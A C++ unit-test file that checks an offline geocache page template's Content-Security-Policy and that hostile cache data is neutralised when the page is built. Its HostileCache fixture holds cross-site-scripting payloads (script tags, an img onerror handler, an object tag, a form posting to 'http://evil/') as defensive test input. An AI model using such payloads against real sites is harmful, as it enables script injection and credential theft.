// SPDX-License-Identifier: GPL-3.0-or-later
// The template and images that ship: what makes the offline page safe to
// open, and complete.
#include <gtest/gtest.h>

#include <map>
#include <sstream>
#include <string>

#include "base/FileIo.h"
#include "base/ProgramFolders.h"
#include "support/TestSupport.h"
#include "web/CachePage.h"

namespace quill {
namespace {

std::string ShippedTemplate() {
  return test::ReadFileBytes(std::string(QUILL_SOURCE_DIR) + "/resources/html/default.htm");
}

// The policy's directives, name to its sources.
std::map<std::string, std::string> Policy(const std::string& page, std::size_t* end) {
  const std::string mark = "<meta http-equiv=\"Content-Security-Policy\" content=\"";
  std::size_t at = page.find(mark);
  if (at == std::string::npos) return {};
  std::size_t close = page.find('"', at + mark.size());
  *end = page.find('>', close);
  std::map<std::string, std::string> directives;
  std::istringstream in(page.substr(at + mark.size(), close - at - mark.size()));
  std::string directive;
  while (std::getline(in, directive, ';')) {
    std::istringstream words(directive);
    std::string name, source, sources;
    words >> name;
    while (words >> source) sources += (sources.empty() ? "" : " ") + source;
    if (!name.empty()) directives[name] = sources;
  }
  return directives;
}

TGpxRecord HostileCache() {
  TGpxRecord r;
  r.Name = "</title><script>alert(1)</script>";
  r.GroundspeakXml =
      "<groundspeak:cache available=\"True\" archived=\"False\"><groundspeak:name>&lt;/title&gt;&lt;script&gt;x()&lt;/"
      "script&gt;</groundspeak:name><groundspeak:long_description html=\"True\">&lt;script&gt;alert(1)&lt;/"
      "script&gt;&lt;img src=x onerror=alert(2)&gt;&lt;object data=x.swf&gt;&lt;/object&gt;&lt;form "
      "action=http://evil/&gt;&lt;input name=p&gt;&lt;/form&gt;</groundspeak:long_description>"
      "</groundspeak:cache>";
  return r;
}

TEST(PageTemplate, PolicyForbidsScriptsObjectsAndFormsBeforeAnyValue) {
  const std::string templ = ShippedTemplate();
  std::size_t policyEnd = 0;
  std::map<std::string, std::string> csp = Policy(templ, &policyEnd);
  ASSERT_FALSE(csp.empty());
  for (const char* name : {"default-src", "script-src", "object-src", "form-action", "base-uri", "frame-src"})
    EXPECT_EQ(csp[name], "'none'") << name;
  for (const auto& [name, sources] : csp) {
    EXPECT_EQ(sources.find("unsafe-eval"), std::string::npos) << name;
    if (name != "style-src") {
      EXPECT_EQ(sources.find("unsafe-inline"), std::string::npos) << name;
    }
    EXPECT_EQ(sources.find('*'), std::string::npos) << name;
  }
  EXPECT_EQ(csp["img-src"], "'self' file: http: https:");

  // A policy given by a meta tag rules only what follows it: every value must
  // land after it, whatever the value holds.
  const std::string page = BuildCachePage(templ, HostileCache());
  std::size_t same = 0;
  while (same < templ.size() && same < page.size() && templ[same] == page[same]) ++same;
  EXPECT_LT(policyEnd, same);
  for (const char* active : {"<script", "onerror", "<object", "<form", "<input", "</title><"}) {
    EXPECT_EQ(page.find(active), std::string::npos) << active;
  }
  EXPECT_NE(page.find("<img src=\"x\">"), std::string::npos);
  EXPECT_LT(page.find("<meta charset=\"utf-8\">"), policyEnd);
}

TEST(PageTemplate, EveryMarkerOnceAndEveryImageShips) {
  const std::string templ = ShippedTemplate();
  for (std::string_view marker : CachePageMarkers()) {
    std::size_t first = templ.find(marker);
    EXPECT_NE(first, std::string::npos) << marker;
    EXPECT_EQ(templ.find(marker, first + 1), std::string::npos) << marker;
  }
  for (std::string_view image : CachePageImages()) {
    const std::string name(image);
    EXPECT_TRUE(FileExists(std::string(QUILL_SOURCE_DIR) + "/resources/html/" + name)) << name;
    EXPECT_TRUE(FileExists(DataFolder() + "html/" + name)) << "build tree: " << name;
  }
  EXPECT_TRUE(FileExists(CachePageTemplatePath(DataFolder())));
}

TEST(PageTemplate, GeneratedPageParsesWithNoMarkerLeft) {
  QUILL_SKIP_WITHOUT_TOOL("xmllint");
  test::TempDir dir;
  TGpxRecord r = HostileCache();
  r.GroundspeakXml.insert(r.GroundspeakXml.size() - 20,
                          "<groundspeak:logs><groundspeak:log><groundspeak:type>Found it</groundspeak:type>"
                          "<groundspeak:text>a &amp; b</groundspeak:text></groundspeak:log></groundspeak:logs>");
  const std::string page = dir.File("page.htm");
  ASSERT_TRUE(WriteCachePage(page, BuildCachePage(ShippedTemplate(), r, CachePageImageUrl(page)),
                             {DataFolder() + "html"}, false));
  std::string comments;
  EXPECT_EQ(test::RunCommand("xmllint --html --noout " + test::ShellQuote(page) + " 2>&1", &comments), 0) << comments;
  test::RunCommand("xmllint --html --xpath '//comment()' " + test::ShellQuote(page) + " 2>/dev/null", &comments);
  EXPECT_EQ(comments.find("TW_"), std::string::npos) << comments;
  EXPECT_EQ(test::ReadFileBytes(page).find("<!--TW_"), std::string::npos);
  for (std::string_view image : CachePageImages()) {
    EXPECT_TRUE(FileExists(dir.File("page_files/" + std::string(image)))) << image;
  }
}

}  // namespace
}  // namespace quill
